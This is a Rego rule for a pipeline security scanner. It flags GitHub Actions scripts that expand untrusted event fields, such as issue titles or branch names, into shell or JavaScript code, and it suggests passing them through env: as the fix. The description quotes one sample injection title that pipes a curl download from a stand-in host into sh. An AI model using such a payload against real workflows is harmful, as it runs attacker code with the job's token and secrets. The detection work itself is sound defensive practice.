# METADATA
# title: Attacker-controlled expression expanded inside a script
# description: |
#   GitHub replaces each `${{ }}` of a `run:` script (and of the `script` input of
#   actions/github-script) with its value before the shell or Node sees the code. When the value
#   is chosen by whoever opens an issue or pull request, writes a comment, names a branch or
#   writes a commit message, a title such as `a"; curl -sSfL evil.sh | sh; echo "` becomes part
#   of the script and runs with the job's token and secrets. Pass the value in through `env:`
#   and read it as a variable (`"$TITLE"`, `process.env.TITLE`): the shell then treats it as
#   data.
#
#   Attacker-controlled contexts include `github.event.issue.title`/`body`,
#   `github.event.pull_request.title`/`body`/`head.ref`/`head.label`, `github.head_ref`,
#   comment, review and discussion bodies, commit messages and author names and e-mails
#   (`github.event.commits.*`, `github.event.head_commit`), wiki page names, the
#   `workflow_run` head branch and title, and whole objects that contain them
#   (`toJSON(github.event)`). `${{ env.NAME }}` counts too when NAME is set from one of them.
#   The finding sits on the script; the message quotes the expressions.
# related_resources:
#   - ref: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#     description: Understanding the risk of script injections
#   - ref: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#good-practices-for-mitigating-script-injection-attacks
#     description: Good practices for mitigating script injection attacks
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
#     description: "GitHub Security Lab: untrusted input in GitHub Actions"
# custom:
#   id: pipeline/script-injection
#   severity: high
#   kinds: [github-actions]
#   remediation: >-
#     Move the expression into the step's env: (`TITLE: ${{ github.event.issue.title }}`) and use
#     the variable in the script, double-quoted (`"$TITLE"`), or `process.env.TITLE` in
#     github-script.
#   threat: >-
#     Anyone who can open an issue or pull request, comment, or push a branch runs shell or
#     JavaScript code in the workflow, with its token and secrets.
package rampart.rules.pipeline.script_injection

import data.rampart.lib.github
import data.rampart.lib.result

deny contains result.violation(msg, sc.path) if {
	some sc in github.scripts
	github.has_expression(sc.script)
	direct := {e | some e in github.untrusted_expressions(sc.script)}
	via_env := _tainted_env_refs(sc)
	count(direct) + count(via_env) > 0
	shown := sort(direct | {sprintf("%s (set from %s)", [r.expr, r.source]) | some r in via_env})
	fixes := array.concat(_direct_fix(sc.what, direct), _env_fix(sc.what, via_env))
	msg := sprintf("%s expands %s into the code it runs, so a crafted value runs as %s; %s", [
		sc.what,
		github.quote_list(shown),
		_lang[sc.what],
		concat("; ", fixes),
	])
}

# ${{ env.NAME }} where NAME holds an attacker-controlled expression.
_tainted_env_refs(sc) := {{"expr": e, "name": name, "source": env[name]} |
	env := github.step_untrusted_env(sc.step)
	count(env) > 0
	some raw in github.expressions(sc.script)
	some r in github.context_refs(raw)
	startswith(r, "env.")
	some name, _ in env
	r == lower(concat("", ["env.", name]))
	e := sprintf("${{ %s }}", [trim_space(raw)])
}

_lang := {"run": "shell code", "github-script script": "JavaScript"}

_direct_fix(_, direct) := [] if count(direct) == 0

_direct_fix("run", direct) := [sprintf(`pass %s in through env: and use a double-quoted variable ("$NAME")`, [_it(direct)])] if count(direct) > 0

_direct_fix("github-script script", direct) := [sprintf("pass %s in through env: and read process.env.NAME", [_it(direct)])] if count(direct) > 0

_env_fix(_, via_env) := [] if count(via_env) == 0

_env_fix("run", via_env) := [sprintf("read %s from the environment instead", [github.quote_list(sort({sprintf(`"$%s"`, [r.name]) | some r in via_env}))])] if count(via_env) > 0

_env_fix("github-script script", via_env) := [sprintf("read %s instead", [github.quote_list(sort({sprintf("process.env.%s", [r.name]) | some r in via_env}))])] if count(via_env) > 0

_it(exprs) := "it" if count(exprs) == 1

_it(exprs) := "them" if count(exprs) > 1
